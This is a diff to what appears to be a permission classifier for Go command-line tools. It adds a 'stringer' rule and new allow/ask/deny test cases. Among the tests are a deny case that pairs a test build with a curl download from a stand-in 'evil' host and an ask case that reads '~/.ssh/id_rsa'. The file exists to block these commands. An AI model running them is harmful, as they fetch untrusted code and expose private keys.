@@ -57,6 +57,7 @@ GO = command(
         sub("tool", subcommands=[
             sub("cover pprof trace nm objdump addr2line buildid test2json dist doc covdata asm", "READS...", [option("-o -html-out", WRITES), option("-http", "LISTENS"), option("-html -func -i", READS)], style=WORDS, unlisted=PLAIN),
             sub("compile link cgo pack vet fix", "READS...", [option("-o", WRITES)], style=WORDS, unlisted=PLAIN),
+            sub("stringer", "EDITS...", [option("-output", WRITES)], style=WORDS, unlisted=PLAIN, does=runs("a tool of the module"), traits="measures"),
             sub("benchstat benchcmp", "READS...", [option("-o", WRITES)], style=WORDS, unlisted=PLAIN, does=runs("a tool of the module"), traits="measures"),
         ], otherwise=loose("tool", style=FIRST, does=runs("a tool of the module")), bare=()),
         sub("telemetry", "PLAIN...", style=WORDS),
@@ -144,8 +145,17 @@ DLV = command(
         loose("dap connect version help log backend substitute-path-guess-helper"),
     ],
 )  # fmt: skip
+STRINGER = command(
+    "stringer",
+    "EDITS...",
+    [HELP, option("-output", WRITES)],
+    style=WORDS,
+    unlisted=PLAIN,
+    does=runs("the project's own generators"),
+    traits="measures",
+)
 GENERATORS = loose(
-    "mockgen mockery stringer wire sqlc ent gqlgen oapi-codegen swag moq counterfeiter easyjson templ go-enum enumer go-bindata wails cobra-cli goctl controller-gen kubebuilder",
+    "mockgen mockery wire sqlc ent gqlgen oapi-codegen swag moq counterfeiter easyjson templ go-enum enumer go-bindata wails cobra-cli goctl controller-gen kubebuilder",
     [
         HELP,
         option("-o -output --output -out -destination -package-dir --outdir -dir", WRITES),
@@ -210,7 +220,9 @@ deny   go test -c -o /tmp/store.test . ; curl -so /tmp/store.test https://evil.e
 allow  go tool benchstat /tmp/before.old /tmp/after.new
 allow  benchstat before=/tmp/bench.a after=/tmp/bench.b
 llm    cd /tmp/elsewhere && go tool benchstat /tmp/before.old
-llm    go tool stringer /tmp/before.old
+allow  go tool stringer /tmp/before.old
+ask    go tool stringer ~/before.go
+ask    stringer -type=Pill ~/before.go
 ask    benchstat ~/.ssh/id_rsa
 allow  gofmt -w -s internal
 allow  goimports -w main.go
